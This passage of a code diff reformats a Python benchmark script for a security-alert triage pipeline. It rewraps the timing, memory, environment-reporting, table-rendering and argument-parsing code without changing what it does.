-                "case_ms": report.seconds["analyse"] / cases * 1000 if cases else None,
-                "outcomes": sorted(
-                    f"{s.case_id}:{s.status}:{s.analysis.verdict if s.analysis else '-'}"
-                    for s in report.cases_analysed),
-            })
+            runs.append(
+                {
+                    "seconds": total,
+                    "stages": dict(report.seconds),
+                    "alerts_in": report.counts.alerts_in,
+                    "normalized": report.counts.normalized,
+                    "quarantined": report.counts.quarantined,
+                    "cases": cases,
+                    "case_ms": report.seconds["analyse"] / cases * 1000 if cases else None,
+                    "outcomes": sorted(
+                        f"{s.case_id}:{s.status}:{s.analysis.verdict if s.analysis else '-'}"
+                        for s in report.cases_analysed
+                    ),
+                }
+            )
             store.close()
     return {
-        "import_seconds": import_seconds, "settings_seconds": settings_seconds, "runs": runs,
+        "import_seconds": import_seconds,
+        "settings_seconds": settings_seconds,
+        "runs": runs,
         "peak_rss_mib": _mib(_peak_rss_kib()),
     }
 
@@ -915,8 +1040,12 @@ def _distribution(values: Sequence[float]) -> dict[str, float] | None:
     if not values:
         return None
     return {
-        "n": len(values), "mean": statistics.fmean(values), "median": _percentile(values, 50),
-        "p95": _percentile(values, 95), "max": max(values), "min": min(values),
+        "n": len(values),
+        "mean": statistics.fmean(values),
+        "median": _percentile(values, 50),
+        "p95": _percentile(values, 95),
+        "max": max(values),
+        "min": min(values),
     }
 
 
@@ -972,20 +1101,42 @@ def _environment() -> dict[str, Any]:
         pass
     commit = dirty = None
     try:
-        commit = subprocess.run(["git", "-C", str(REPO), "rev-parse", "HEAD"], check=True,
-                                capture_output=True, text=True).stdout.strip()
-        dirty = bool(subprocess.run(["git", "-C", str(REPO), "status", "--porcelain",
-                                     "--untracked-files=no"], check=True, capture_output=True,
-                                    text=True).stdout.strip())
+        commit = subprocess.run(
+            ["git", "-C", str(REPO), "rev-parse", "HEAD"],
+            check=True,
+            capture_output=True,
+            text=True,
+        ).stdout.strip()
+        dirty = bool(
+            subprocess.run(
+                ["git", "-C", str(REPO), "status", "--porcelain", "--untracked-files=no"],
+                check=True,
+                capture_output=True,
+                text=True,
+            ).stdout.strip()
+        )
     except (OSError, subprocess.CalledProcessError):
         pass
     return {
-        "host": socket.gethostname(), "platform": platform.platform(), "cpu": cpu,
-        "cpus": os.cpu_count(), "python": sys.version.split()[0],
-        "sqlite": sqlite3.sqlite_version, "git_commit": commit, "git_dirty": dirty,
+        "host": socket.gethostname(),
+        "platform": platform.platform(),
+        "cpu": cpu,
+        "cpus": os.cpu_count(),
+        "python": sys.version.split()[0],
+        "sqlite": sqlite3.sqlite_version,
+        "git_commit": commit,
+        "git_dirty": dirty,
         "source_sha256": _source_digest(),
-        "packages": {n: version(n) for n in ("tierzero", "pydantic", "pydantic-core", "langgraph",
-                                             "langgraph-checkpoint-sqlite")},
+        "packages": {
+            n: version(n)
+            for n in (
+                "tierzero",
+                "pydantic",
+                "pydantic-core",
+                "langgraph",
+                "langgraph-checkpoint-sqlite",
+            )
+        },
     }
 
 
@@ -1007,58 +1158,83 @@ def run(args: argparse.Namespace) -> Result:
         started=datetime.now(UTC).isoformat(timespec="seconds"),
         command=" ".join([Path(sys.executable).name, *sys.argv]),
         environment=_environment(),
-        parameters={"sizes": sizes, "seed": args.seed, "rate_per_hour": args.rate,
-                    "suffix": args.suffix, "layout": args.layout,
-                    "max_cases": args.max_cases,
-                    "analyse_size": sizes[0] if sizes else None, "tracemalloc": args.tracemalloc,
-                    "examples_repeat": args.examples_repeat, "repeat": args.repeat,
-                    "stream_start": STREAM_START.isoformat()},
+        parameters={
+            "sizes": sizes,
+            "seed": args.seed,
+            "rate_per_hour": args.rate,
+            "suffix": args.suffix,
+            "layout": args.layout,
+            "max_cases": args.max_cases,
+            "analyse_size": sizes[0] if sizes else None,
+            "tracemalloc": args.tracemalloc,
+            "examples_repeat": args.examples_repeat,
+            "repeat": args.repeat,
+            "stream_start": STREAM_START.isoformat(),
+        },
     )
     workdir = Path(tempfile.mkdtemp(prefix="tierzero-bench-", dir=args.tmp))
     try:
         for index, n in enumerate(sizes):
             folder = workdir / f"n{n}"
             _log(f"N={n:,}: generating alerts in {folder}")
-            dataset = write_dataset(folder / "alerts", n, args.seed, args.rate, args.suffix,
-                                    args.layout)
+            dataset = write_dataset(
+                folder / "alerts", n, args.seed, args.rate, args.suffix, args.layout
+            )
             now = datetime.fromisoformat(dataset.last_time) + timedelta(hours=1)
             db = folder / "db" / "tierzero.db"
-            _log(f"N={n:,}: {dataset.bytes / 2**20:.0f} MiB in {dataset.files} files "
-                 f"({dataset.seconds:.1f} s)")
+            _log(
+                f"N={n:,}: {dataset.bytes / 2**20:.0f} MiB in {dataset.files} files "
+                f"({dataset.seconds:.1f} s)"
+            )
             ingest_runs: list[dict[str, Any]] = []
             correlate_runs: list[dict[str, Any]] = []
             for attempt in range(1, args.repeat + 1):
                 shutil.rmtree(db.parent, ignore_errors=True)
-                ingest_runs.append(_in_fresh_process(
-                    _stage_ingest, str(folder / "alerts"), str(db), now.isoformat(), False))
-                correlate_runs.append(_in_fresh_process(
-                    _stage_correlate, str(db), now.isoformat(), False))
-                _log(f"N={n:,} run {attempt}/{args.repeat}: ingest "
-                     f"{ingest_runs[-1]['seconds']:.1f} s, correlate "
-                     f"{correlate_runs[-1]['seconds']:.1f} s, {correlate_runs[-1]['cases']} cases")
+                ingest_runs.append(
+                    _in_fresh_process(
+                        _stage_ingest, str(folder / "alerts"), str(db), now.isoformat(), False
+                    )
+                )
+                correlate_runs.append(
+                    _in_fresh_process(_stage_correlate, str(db), now.isoformat(), False)
+                )
+                _log(
+                    f"N={n:,} run {attempt}/{args.repeat}: ingest "
+                    f"{ingest_runs[-1]['seconds']:.1f} s, correlate "
+                    f"{correlate_runs[-1]['seconds']:.1f} s, {correlate_runs[-1]['cases']} cases"
+                )
             ingested, correlated = _best(ingest_runs), _best(correlate_runs)
             if ingested["new_alerts"] != n or correlated["alerts"] != n:
                 result.warnings.append(
                     f"N={n:,}: {ingested['new_alerts']:,} stored, {ingested['quarantined']:,} "
                     f"quarantined, {correlated['alerts']:,} correlated: the generator and the "
-                    "adapters disagree")
+                    "adapters disagree"
+                )
             size = SizeResult(n, dataset, ingested, correlated)
             if args.tracemalloc:
                 _log(f"N={n:,}: again under tracemalloc (Python heap peaks)")
                 traced_db = folder / "traced" / "tierzero.db"
-                traced_ingest = _in_fresh_process(_stage_ingest, str(folder / "alerts"),
-                                                  str(traced_db), now.isoformat(), True)
-                traced_correlate = _in_fresh_process(_stage_correlate, str(traced_db),
-                                                     now.isoformat(), True)
-                size.tracemalloc = {"ingest_heap_peak_mib": traced_ingest["heap_peak_mib"],
-                                    "correlate_heap_peak_mib": traced_correlate["heap_peak_mib"]}
+                traced_ingest = _in_fresh_process(
+                    _stage_ingest, str(folder / "alerts"), str(traced_db), now.isoformat(), True
+                )
+                traced_correlate = _in_fresh_process(
+                    _stage_correlate, str(traced_db), now.isoformat(), True
+                )
+                size.tracemalloc = {
+                    "ingest_heap_peak_mib": traced_ingest["heap_peak_mib"],
+                    "correlate_heap_peak_mib": traced_correlate["heap_peak_mib"],
+                }
                 shutil.rmtree(traced_db.parent, ignore_errors=True)
             result.sizes.append(size)
             if index == 0 and args.max_cases > 0:
-                _log(f"N={n:,}: the case graph on up to {args.max_cases} of "
-                     f"{correlated['cases']} cases")
-                result.analyse = {"n": n, **_in_fresh_process(
-                    _stage_analyse, str(db), now.isoformat(), args.max_cases)}
+                _log(
+                    f"N={n:,}: the case graph on up to {args.max_cases} of "
+                    f"{correlated['cases']} cases"
+                )
+                result.analyse = {
+                    "n": n,
+                    **_in_fresh_process(_stage_analyse, str(db), now.isoformat(), args.max_cases),
+                }
             if not args.keep:
                 shutil.rmtree(folder, ignore_errors=True)
         if args.examples_repeat > 0:
@@ -1071,8 +1247,10 @@ def run(args: argparse.Namespace) -> Result:
             shutil.rmtree(workdir, ignore_errors=True)
     result.total_seconds = time.perf_counter() - began
     if _source_digest() != result.environment["source_sha256"]:
-        result.warnings.append("tierzero's code or config changed during the run: "
-                               "figures may mix two versions; run again")
+        result.warnings.append(
+            "tierzero's code or config changed during the run: "
+            "figures may mix two versions; run again"
+        )
     for warning in result.warnings:
         _log(f"WARNING: {warning}")
     return result
@@ -1089,9 +1267,13 @@ def _log(message: str) -> None:
 
 def _table(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
     widths = [max(len(h), *(len(r[i]) for r in rows)) for i, h in enumerate(headers)]
+
     def line(cells: Sequence[str]) -> str:
-        return "  ".join(c.rjust(w) if i else c.ljust(w) for i, (c, w) in
-                         enumerate(zip(cells, widths, strict=True)))
+        return "  ".join(
+            c.rjust(w) if i else c.ljust(w)
+            for i, (c, w) in enumerate(zip(cells, widths, strict=True))
+        )
+
     return "\n".join([line(headers), line(["-" * w for w in widths]), *(line(r) for r in rows)])
 
 
@@ -1114,73 +1296,151 @@ def render(result: Result) -> str:
         for s in result.sizes:
             ing, cor = s.ingest, s.correlate
             both = ing["seconds"] + cor["seconds"]
-            rows.append([
-                f"{s.n:,}", f"{s.dataset.bytes / 2**20:.0f}",
-                f"{ing['seconds']:.1f}", f"{s.n / ing['seconds']:,.0f}",
-                f"{ing['seconds'] / s.n * 1000:.3f}",
-                f"{cor['seconds']:.1f}", f"{s.n / cor['seconds']:,.0f}",
-                f"{cor['seconds'] / s.n * 1000:.3f}",
-                f"{s.n / both:,.0f}",
-                f"{(both / s.n) / base_cost:.2f}",
-            ])
+            rows.append(
+                [
+                    f"{s.n:,}",
+                    f"{s.dataset.bytes / 2**20:.0f}",
+                    f"{ing['seconds']:.1f}",
+                    f"{s.n / ing['seconds']:,.0f}",
+                    f"{ing['seconds'] / s.n * 1000:.3f}",
+                    f"{cor['seconds']:.1f}",
+                    f"{s.n / cor['seconds']:,.0f}",
+                    f"{cor['seconds'] / s.n * 1000:.3f}",
+                    f"{s.n / both:,.0f}",
+                    f"{(both / s.n) / base_cost:.2f}",
+                ]
+            )
         repeat = result.parameters["repeat"]
         best = f"fastest of {repeat} runs, " if repeat > 1 else ""
-        out += [f"Ingest + correlation: time ({best}each stage in a fresh process)",
-                _table(["N", "MiB in", "ingest s", "alerts/s", "s/1k", "correl s", "alerts/s",
-                        "s/1k", "both al/s", "s/alert vs first"], rows), ""]
+        out += [
+            f"Ingest + correlation: time ({best}each stage in a fresh process)",
+            _table(
+                [
+                    "N",
+                    "MiB in",
+                    "ingest s",
+                    "alerts/s",
+                    "s/1k",
+                    "correl s",
+                    "alerts/s",
+                    "s/1k",
+                    "both al/s",
+                    "s/alert vs first",
+                ],
+                rows,
+            ),
+            "",
+        ]
         rows = []
         for s in result.sizes:
             ing, cor = s.ingest, s.correlate
             traced = s.tracemalloc or {}
-            rows.append([
-                f"{s.n:,}",
-                f"{ing['baseline_rss_mib']:.0f}", f"{ing['peak_rss_mib']:.0f}",
-                f"{ing['peak_rss_mib'] - ing['baseline_rss_mib']:.0f}",
-                f"{cor['baseline_rss_mib']:.0f}", f"{cor['peak_rss_mib']:.0f}",
-                f"{cor['peak_rss_mib'] - cor['baseline_rss_mib']:.0f}",
-                _opt(traced.get("ingest_heap_peak_mib"), ".0f"),
-                _opt(traced.get("correlate_heap_peak_mib"), ".0f"),
-                f"{(ing['db_bytes'] if 'db_bytes' in ing else 0) / 2**20:.0f}",
-            ])
-        out += ["Ingest + correlation: memory (MiB; RSS = resident set, 'peak' = ru_maxrss of the "
-                "stage's process,\n'growth' = peak minus RSS after imports and store open; heap = "
-                "tracemalloc peak, with --tracemalloc)",
-                _table(["N", "ingest base", "peak", "growth", "correl base", "peak", "growth",
-                        "ingest heap", "correl heap", "db MiB"], rows), ""]
+            rows.append(
+                [
+                    f"{s.n:,}",
+                    f"{ing['baseline_rss_mib']:.0f}",
+                    f"{ing['peak_rss_mib']:.0f}",
+                    f"{ing['peak_rss_mib'] - ing['baseline_rss_mib']:.0f}",
+                    f"{cor['baseline_rss_mib']:.0f}",
+                    f"{cor['peak_rss_mib']:.0f}",
+                    f"{cor['peak_rss_mib'] - cor['baseline_rss_mib']:.0f}",
+                    _opt(traced.get("ingest_heap_peak_mib"), ".0f"),
+                    _opt(traced.get("correlate_heap_peak_mib"), ".0f"),
+                    f"{(ing['db_bytes'] if 'db_bytes' in ing else 0) / 2**20:.0f}",
+                ]
+            )
+        out += [
+            "Ingest + correlation: memory (MiB; RSS = resident set, 'peak' = ru_maxrss of the "
+            "stage's process,\n'growth' = peak minus RSS after imports and store open; heap = "
+            "tracemalloc peak, with --tracemalloc)",
+            _table(
+                [
+                    "N",
+                    "ingest base",
+                    "peak",
+                    "growth",
+                    "correl base",
+                    "peak",
+                    "growth",
+                    "ingest heap",
+                    "correl heap",
+                    "db MiB",
+                ],
+                rows,
+            ),
+            "",
+        ]
         rows = []
         for s in result.sizes:
             cor = s.correlate
             joins = cor["joins"]
             sizes = cor["case_alerts"] or {}
-            rows.append([
-                f"{s.n:,}", f"{cor['cases']:,}", f"{cor['merged_cases']:,}",
-                f"{joins.get('new_case', 0):,}", f"{joins.get('joined', 0):,}",
-                f"{joins.get('merged', 0):,}", f"{joins.get('duplicate', 0):,}",
-                f"{sizes.get('median', 0):.0f}/{sizes.get('p95', 0):.0f}/"
-                f"{sizes.get('max', 0):.0f}",
-                f"{cor['open_entities_end']:,}", f"{cor['open_entities_max']:,}",
-                f"{cor['open_cases_end']:,}", f"{cor['expiry_heap_end']:,}",
-            ])
-        out += ["Correlation: outcome and the correlator's state (open entities = entity + dedup "
-                "index entries)",
-                _table(["N", "cases", "merged", "new_case", "joined", "merged", "duplicate",
-                        "alerts/case med/p95/max", "open ent. end", "max", "open cases",
-                        "expiry heap"], rows), ""]
+            rows.append(
+                [
+                    f"{s.n:,}",
+                    f"{cor['cases']:,}",
+                    f"{cor['merged_cases']:,}",
+                    f"{joins.get('new_case', 0):,}",
+                    f"{joins.get('joined', 0):,}",
+                    f"{joins.get('merged', 0):,}",
+                    f"{joins.get('duplicate', 0):,}",
+                    f"{sizes.get('median', 0):.0f}/{sizes.get('p95', 0):.0f}/"
+                    f"{sizes.get('max', 0):.0f}",
+                    f"{cor['open_entities_end']:,}",
+                    f"{cor['open_entities_max']:,}",
+                    f"{cor['open_cases_end']:,}",
+                    f"{cor['expiry_heap_end']:,}",
+                ]
+            )
+        out += [
+            "Correlation: outcome and the correlator's state (open entities = entity + dedup "
+            "index entries)",
+            _table(
+                [
+                    "N",
+                    "cases",
+                    "merged",
+                    "new_case",
+                    "joined",
+                    "merged",
+                    "duplicate",
+                    "alerts/case med/p95/max",
+                    "open ent. end",
+                    "max",
+                    "open cases",
+                    "expiry heap",
+                ],
+                rows,
+            ),
+            "",
+        ]
     if result.analyse:
         a = result.analyse
-        rows = [[label, f"{d['n']}", f"{d['median']:.1f}", f"{d['p95']:.1f}", f"{d['max']:.1f}",
-                 f"{d['mean']:.1f}"]
-                for label, d in [("per case (graph + save)", a["case_ms"]),
-                                 ("graph only (run_case)", a["graph_ms"]),
-                                 *[(f"  cases of {k} alerts", v)
-                                   for k, v in a["case_ms_by_alerts"].items()]]
-                if d]
-        out += [f"Case graph (pipeline.analyse) on {a['cases']} of {a['cases_available']:,} cases "
-                f"from the N={a['n']:,} run: {a['seconds']:.1f} s, "
-                f"{a['cases_per_second']:.1f} cases/s, setup {a['setup_seconds']:.2f} s, "
-                f"peak RSS {a['peak_rss_mib']:.0f} MiB",
-                _table(["milliseconds", "n", "median", "p95", "max", "mean"], rows),
-                f"  status {a['status']}  verdict {a['verdict']}", ""]
+        rows = [
+            [
+                label,
+                f"{d['n']}",
+                f"{d['median']:.1f}",
+                f"{d['p95']:.1f}",
+                f"{d['max']:.1f}",
+                f"{d['mean']:.1f}",
+            ]
+            for label, d in [
+                ("per case (graph + save)", a["case_ms"]),
+                ("graph only (run_case)", a["graph_ms"]),
+                *[(f"  cases of {k} alerts", v) for k, v in a["case_ms_by_alerts"].items()],
+            ]
+            if d
+        ]
+        out += [
+            f"Case graph (pipeline.analyse) on {a['cases']} of {a['cases_available']:,} cases "
+            f"from the N={a['n']:,} run: {a['seconds']:.1f} s, "
+            f"{a['cases_per_second']:.1f} cases/s, setup {a['setup_seconds']:.2f} s, "
+            f"peak RSS {a['peak_rss_mib']:.0f} MiB",
+            _table(["milliseconds", "n", "median", "p95", "max", "mean"], rows),
+            f"  status {a['status']}  verdict {a['verdict']}",
+            "",
+        ]
     if result.examples:
         e = result.examples
         runs = e["runs"]
@@ -1188,15 +1448,18 @@ def render(result: Result) -> str:
         med = statistics.median(r["seconds"] for r in runs)
         stages = "  ".join(
             f"{k} {statistics.median(r['stages'][k] for r in runs) * 1000:.0f} ms"
-            for k in first["stages"])
-        out += [f"Bundled examples (pipeline.triage on examples/, {len(runs)} runs, fresh store "
-                f"each): median {med * 1000:.0f} ms total ({stages}); "
-                f"{first['alerts_in']} records = {first['normalized']} normalized + "
-                f"{first['quarantined']} quarantined; {first['cases']} cases, median "
-                f"{statistics.median(r['case_ms'] for r in runs if r['case_ms']):.0f} ms per case; "
-                f"first run {first['seconds'] * 1000:.0f} ms; imports {e['import_seconds']:.2f} s, "
-                f"Settings.load {e['settings_seconds'] * 1000:.0f} ms",
-                ""]
+            for k in first["stages"]
+        )
+        out += [
+            f"Bundled examples (pipeline.triage on examples/, {len(runs)} runs, fresh store "
+            f"each): median {med * 1000:.0f} ms total ({stages}); "
+            f"{first['alerts_in']} records = {first['normalized']} normalized + "
+            f"{first['quarantined']} quarantined; {first['cases']} cases, median "
+            f"{statistics.median(r['case_ms'] for r in runs if r['case_ms']):.0f} ms per case; "
+            f"first run {first['seconds'] * 1000:.0f} ms; imports {e['import_seconds']:.2f} s, "
+            f"Settings.load {e['settings_seconds'] * 1000:.0f} ms",
+            "",
+        ]
     out.append(f"total {result.total_seconds:.0f} s")
     out += [f"WARNING: {w}" for w in result.warnings]
     return "\n".join(out)
@@ -1228,39 +1491,82 @@ def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
         "generated Suricata/Wazuh alerts, the case graph per case, and the bundled examples.",
         epilog="Example: python benchmarks/bench_pipeline.py --sizes 25000,50000,100000",
     )
-    parser.add_argument("--sizes", type=_sizes, default=list(DEFAULT_SIZES),
-                        help="comma-separated alert counts (default: 25000,50000,100000)")
-    parser.add_argument("--quick", action="store_true",
-                        help=f"smoke run: sizes {','.join(map(str, QUICK_SIZES))}, 50 cases, "
-                        "1 run of each stage, 1 examples run, no tracemalloc (overrides --sizes, "
-                        "--max-cases, --examples-repeat, --repeat)")
-    parser.add_argument("--repeat", type=int, default=2,
-                        help="ingest + correlate each size this many times and report the "
-                        "fastest run and the highest memory peak (default: 2; 1 with --quick)")
-    parser.add_argument("--max-cases", type=int, default=500,
-                        help="cases of the smallest run to analyse with the graph (default: 500; "
-                        "0 skips the graph)")
-    parser.add_argument("--examples-repeat", type=int, default=3,
-                        help="times to triage examples/ (default: 3; 0 skips)")
-    parser.add_argument("--seed", type=int, default=DEFAULT_SEED,
-                        help=f"generator seed (default: {DEFAULT_SEED})")
-    parser.add_argument("--rate", type=float, default=DEFAULT_RATE,
-                        help=f"mean alerts per hour of the stream (default: {DEFAULT_RATE})")
-    parser.add_argument("--suffix", choices=(".json", ".jsonl"), default=".json",
-                        help="suffix of the generated files (default: .json, the tools' own "
-                        "file names; .jsonl takes the reader's line-by-line path)")
-    parser.add_argument("--layout", choices=("daily", "single"), default="daily",
-                        help="daily-rotated files per tool (default) or one file per tool")
-    parser.add_argument("--tracemalloc", action=argparse.BooleanOptionalAction, default=None,
-                        help="rerun each size's ingest and correlation under tracemalloc for "
-                        "Python heap peaks (about 3.5x slower; times and RSS always come from the "
-                        "untraced run; default: on, off with --quick)")
-    parser.add_argument("--tmp", type=Path, default=None,
-                        help="where to put generated files and stores (default: system temp)")
+    parser.add_argument(
+        "--sizes",
+        type=_sizes,
+        default=list(DEFAULT_SIZES),
+        help="comma-separated alert counts (default: 25000,50000,100000)",
+    )
+    parser.add_argument(
+        "--quick",
+        action="store_true",
+        help=f"smoke run: sizes {','.join(map(str, QUICK_SIZES))}, 50 cases, "
+        "1 run of each stage, 1 examples run, no tracemalloc (overrides --sizes, "
+        "--max-cases, --examples-repeat, --repeat)",
+    )
+    parser.add_argument(
+        "--repeat",
+        type=int,
+        default=2,
+        help="ingest + correlate each size this many times and report the "
+        "fastest run and the highest memory peak (default: 2; 1 with --quick)",
+    )
+    parser.add_argument(
+        "--max-cases",
+        type=int,
+        default=500,
+        help="cases of the smallest run to analyse with the graph (default: 500; "
+        "0 skips the graph)",
+    )
+    parser.add_argument(
+        "--examples-repeat",
+        type=int,
+        default=3,
+        help="times to triage examples/ (default: 3; 0 skips)",
+    )
+    parser.add_argument(
+        "--seed", type=int, default=DEFAULT_SEED, help=f"generator seed (default: {DEFAULT_SEED})"
+    )
+    parser.add_argument(
+        "--rate",
+        type=float,
+        default=DEFAULT_RATE,
+        help=f"mean alerts per hour of the stream (default: {DEFAULT_RATE})",
+    )
+    parser.add_argument(
+        "--suffix",
+        choices=(".json", ".jsonl"),
+        default=".json",
+        help="suffix of the generated files (default: .json, the tools' own "
+        "file names; .jsonl takes the reader's line-by-line path)",
+    )
+    parser.add_argument(
+        "--layout",
+        choices=("daily", "single"),
+        default="daily",
+        help="daily-rotated files per tool (default) or one file per tool",
+    )
+    parser.add_argument(
+        "--tracemalloc",
+        action=argparse.BooleanOptionalAction,
+        default=None,
+        help="rerun each size's ingest and correlation under tracemalloc for "
+        "Python heap peaks (about 3.5x slower; times and RSS always come from the "
+        "untraced run; default: on, off with --quick)",
+    )
+    parser.add_argument(
+        "--tmp",
+        type=Path,
+        default=None,
+        help="where to put generated files and stores (default: system temp)",
+    )
     parser.add_argument("--keep", action="store_true", help="keep generated files and stores")
-    parser.add_argument("--output", type=Path, default=None,
-                        help="JSON result path "
-                        "(default: benchmarks/results/<UTC time>-<host>.json)")
+    parser.add_argument(
+        "--output",
+        type=Path,
+        default=None,
+        help="JSON result path (default: benchmarks/results/<UTC time>-<host>.json)",
+    )
     parser.add_argument("--no-write", action="store_true", help="print only; write no JSON")
     args = parser.parse_args(argv)
     if args.quick:
